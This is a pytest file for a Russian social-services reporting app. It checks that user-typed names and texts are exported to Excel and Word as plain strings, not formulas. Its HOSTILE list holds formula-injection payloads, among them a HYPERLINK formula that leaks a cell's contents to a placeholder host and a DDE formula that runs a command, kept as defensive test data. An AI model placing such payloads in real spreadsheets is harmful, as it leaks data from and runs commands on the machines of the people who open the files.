"""Every text a user typed reaches the workbooks and documents as text: a centre's name, a citizen's, a measure's, a
report's edited texts, a category that begins with «=», «+», «-» or «@» is a string cell read back with openpyxl,
never a formula (formula injection). And the monthly form's blocks as the order has them: the addressee's e-mail,
the preparer's line, the breakdowns' shares out of citizens with labelled charts."""

from __future__ import annotations

import io
from datetime import date

import openpyxl
from docx import Document
from sqlalchemy import select

from app.extensions import db
from app.models import Category, Circumstance, MonthlyReport
from tests import factories

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Открыть")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
]


def d(month: int, day: int) -> date:
    return date(2026, month, day)


def string_cells(book: openpyxl.Workbook) -> dict[str, str]:
    """value → data type of every cell that holds one of the hostile texts (or a text containing one)."""
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(h in cell.value for h in HOSTILE):
                    found[cell.value] = cell.data_type
    return found


def formulas(book: openpyxl.Workbook) -> list[str]:
    return [
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_typed_texts_are_strings_in_the_monthly_workbooks_and_the_programme_forms(app, world, login):
    centre = world.centre_a
    centre.name = HOSTILE[0]
    category = db.session.get(Category, world.category.id)
    category.name = HOSTILE[3]
    circumstance = db.session.get(Circumstance, world.circumstance.id)
    circumstance.name = HOSTILE[5]
    db.session.commit()
    citizen = factories.citizen(centre, surname=HOSTILE[4], category=category, circumstances=[circumstance])
    programme = factories.programme(
        citizen,
        world.users["specialist"],
        number=HOSTILE[0],
        start_date=d(3, 2),
        end_date=d(8, 31),
        activated_on=d(3, 2),
        results_analysis=HOSTILE[2],
        recommendations=HOSTILE[1],
        note=HOSTILE[0],
    )
    factories.measure(programme, title=HOSTILE[1], participants_text=HOSTILE[5], status="done", done_on=d(3, 10))
    director = login("director")
    director.post(
        "/monthlyreportview/add",
        data={"centre": centre.id, "month": "2026-03-01", "preparer_name": HOSTILE[2], "preparer_phone": ""},
    )
    report = db.session.scalars(select(MonthlyReport)).one()
    director.post(
        f"/monthlyreportview/edit/{report.id}",
        data={"measures_info": HOSTILE[1], "result_info": HOSTILE[2], "note": HOSTILE[3], "preparer_name": "Петрова"},
    )
    workbooks = {
        "report": director.get(f"/monthlyreportview/download/{report.id}").data,
        "consolidated": login("department").post("/monthlyreportview/consolidated", data={"month": "2026-03"}).data,
        "form": login("specialist").get(f"/case/{programme.id}/form.xlsx").data,
    }
    for name, content in workbooks.items():
        book = openpyxl.load_workbook(io.BytesIO(content))
        typed = string_cells(book)
        assert typed, name
        assert set(typed.values()) == {"s"}, (name, typed)
        assert all(f.startswith("=SUM(") for f in formulas(book)), (name, formulas(book))  # only the totals
    report_sheet = openpyxl.load_workbook(io.BytesIO(workbooks["report"]))["Отчёт"]
    assert (report_sheet["B9"].value, report_sheet["E9"].value, report_sheet["G9"].value) == (
        HOSTILE[0],
        HOSTILE[1],
        HOSTILE[3],
    )
    detail = openpyxl.load_workbook(io.BytesIO(workbooks["report"]))["Программы"]
    assert [(c.value, c.data_type) for c in detail[2][:4]] == [
        (centre.short_name, "s"),
        (HOSTILE[0], "s"),
        (f"{HOSTILE[4]} И. И.", "s"),
        (HOSTILE[3], "s"),
    ]
    document = Document(io.BytesIO(login("specialist").get(f"/case/{programme.id}/form.docx").data))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert HOSTILE[1] in cells and HOSTILE[2] in cells  # the measure and the results, as typed


def test_the_monthly_form_names_the_department_s_e_mail_and_the_preparer_once(app, world, login, monkeypatch):
    monkeypatch.setitem(app.config, "DEPARTMENT_EMAIL", "oson@depsr.example.ru")
    director = login("director")
    director.post(
        "/monthlyreportview/add",
        data={
            "centre": world.centre_a.id,
            "month": "2026-03-01",
            "preparer_name": "Петрова Анна Алексеевна",
            "preparer_phone": "+7 3462 521112",
        },
    )
    report = db.session.scalars(select(MonthlyReport)).one()
    sheet = openpyxl.load_workbook(io.BytesIO(director.get(f"/monthlyreportview/download/{report.id}").data))["Отчёт"]
    assert sheet["A1"].value.endswith("Депсоцразвития Югры\nE-mail: oson@depsr.example.ru")
    assert sheet["A11"].value == f"Ф.И.О. исполнителя, тел. Петрова Анна Алексеевна, {report.preparer_phone}"
    monkeypatch.setitem(app.config, "DEPARTMENT_EMAIL", "")
    director.post(f"/monthlyreportview/edit/{report.id}", data={"preparer_name": "", "preparer_phone": ""})
    sheet = openpyxl.load_workbook(io.BytesIO(director.get(f"/monthlyreportview/download/{report.id}").data))["Отчёт"]
    assert sheet["A1"].value.endswith("E-mail: _____") and sheet["A11"].value == "Ф.И.О. исполнителя, тел. _____"


def test_shares_of_circumstances_are_counted_out_of_citizens_and_the_charts_are_labelled(app, world, login):
    other = factories.add(Circumstance(name="Отсутствие работы и средств к существованию", sort_order=2))
    for n, circumstances in enumerate(([world.circumstance, other], [world.circumstance])):
        citizen = factories.citizen(world.centre_a, category=world.category, circumstances=circumstances)
        factories.programme(citizen, start_date=d(3, 2 + n), end_date=d(8, 31), activated_on=d(3, 2 + n))
    director = login("director")
    director.post("/monthlyreportview/add", data={"centre": world.centre_a.id, "month": "2026-03-01"})
    report = db.session.scalars(select(MonthlyReport)).one()
    book = openpyxl.load_workbook(io.BytesIO(director.get(f"/monthlyreportview/download/{report.id}").data))
    sheet = book["Разрезы"]
    cells = [[c.value for c in row] for row in sheet.iter_rows(max_col=4)]
    start = next(i for i, r in enumerate(cells) if r[0] == "Граждане на сопровождении по обстоятельствам нуждаемости")
    table = cells[start + 2 : start + 5]
    assert table == [
        [world.circumstance.name, 2, 1.0, world.circumstance.name],  # both citizens: 100 %
        [other.name, 1, 0.5, "Отсутствие работы и средств к существованию"],  # one of two: 50 %, not a third
        ["Граждан на сопровождении", 2, 1, None],
    ]
    assert "могут превышать 100 %" in cells[start + 5][0]
    titles = []
    for chart in sheet._charts:
        titles.append("".join(run.t for p in chart.title.tx.rich.p for run in (p.r or [])))
        series = chart.series[0]
        assert series.dLbls.showVal and chart.legend is None
    assert "Граждане на сопровождении по обстоятельствам нуждаемости" in titles
    assert "Граждане на сопровождении по категориям" in titles  # (no measures this month: no chart of them)
    assert "Мероприятия месяца по видам" not in titles
